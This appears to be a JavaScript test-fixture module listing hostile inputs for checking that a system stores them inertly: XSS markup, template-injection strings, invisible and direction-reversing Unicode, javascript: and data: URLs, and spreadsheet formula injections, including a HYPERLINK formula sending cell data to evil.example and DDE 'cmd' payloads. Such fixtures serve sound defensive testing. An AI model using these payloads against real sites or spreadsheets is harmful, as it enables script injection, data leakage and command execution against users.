// What people store who mean no good: texts that are markup, scripts, templates or formulas where they
// are not written as text. Whatever is run sets `ran`; every text holds `mark`, so that a test can show
// that it was there and did nothing.
export const mark = 'hostile';

/** One line each, of 200 bytes at most, so that each fits into the shortest of what may be stored. */
export const markup = [
  `<script>window.ran='${mark}'</script>`,
  `"><img src=x onerror="window.ran='${mark}'">`,
  `'><svg onload=window.ran='${mark}'>`,
  `</script><!--<script>window.ran='${mark}'//`,
  `</title></textarea></style></svg><script>window.ran='${mark}'</script>`,
  `]]><script>window.ran='${mark}'</script><![CDATA[`,
  `<a href="javascript:window.ran='${mark}'" autofocus onfocus=window.ran=1>${mark}</a>`,
  `<iframe srcdoc="&lt;script&gt;parent.ran='${mark}'&lt;/script&gt;">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/${mark}"><base href=//evil.example>`,
  `&lt;script&gt;window.ran='${mark}'&lt;/script&gt;`,
  `\\u003cscript\\u003ewindow.ran='${mark}'\\u003c/script\\u003e`,
  `{{constructor.constructor('window.ran="${mark}"')()}} \${window.ran='${mark}'} #{${mark}}`,
  `%lang% <!--assay:head--> <!--assay:prelude--> {link} {name} {0} %s ${mark}`,
];

/** Lines that end where scripts end them and people see nothing: texts of several lines may hold them, names may not. */
export const separated = `\u2028window.ran='${mark}'\u2029//`;

/** What nobody sees, alone or within a word: names and other single lines that hold it are refused. */
export const unseen = ['\u3164', '\u2800', '\u115F', '\u1160', '\uFFA0', '\u200B', '\u00AD', '\u2060', '\uFEFF', '\u034F', '\u{E0041}', '\u2028', '\u061C', '\u200E', '\uFE0F', '\u200D'].flatMap((one) => [one, `${one} ${one}`, `${mark.slice(0, 3)}${one}${mark.slice(3)}`]);

/** Texts that a reader would see as something else; where they would become public they are refused. */
export const deceiving = [`${mark} \u202Egnp.exe`, `${mark} \u2066turned\u2069`, `${mark}\u0000`, `${mark}\u001B[2J`, `${mark}\u0007`];

/** Addresses that are none of a web page. */
export const addresses = [
  `javascript:window.ran='${mark}'`,
  `JaVaScRiPt:window.ran='${mark}'`,
  ` javascript:window.ran='${mark}'`,
  `java\nscript:window.ran='${mark}'`,
  `data:text/html,<script>window.ran='${mark}'</script>`,
  `vbscript:${mark}`,
  `file:///etc/${mark}`,
  `//evil.example/${mark}`,
  `https://evil.example/"><script>window.ran='${mark}'</script>`,
];

/** What a spreadsheet runs when a cell begins with it. */
export const formulas = [
  `=HYPERLINK("https://evil.example/?"&A1,"${mark}")`,
  `=cmd|'/C calc'!A0 ${mark}`,
  `+1+1 ${mark}`,
  `-2+3+cmd|'/C calc'!A0 ${mark}`,
  `@SUM(1+1)*cmd|'/C calc'!A0 ${mark}`,
  `\t=1+1 ${mark}`,
  `\r=1+1 ${mark}`,
  `\n=1+1 ${mark}`,
  `＝1+1 ${mark}`,
  `＋1 ${mark}`,
  `－1 ${mark}`,
  `＠SUM(1) ${mark}`,
  `'=1+1 ${mark}`,
  `"=1+1 ${mark}`,
  `;=1+1 ${mark}`,
  `,=1+1 ${mark}`,
];
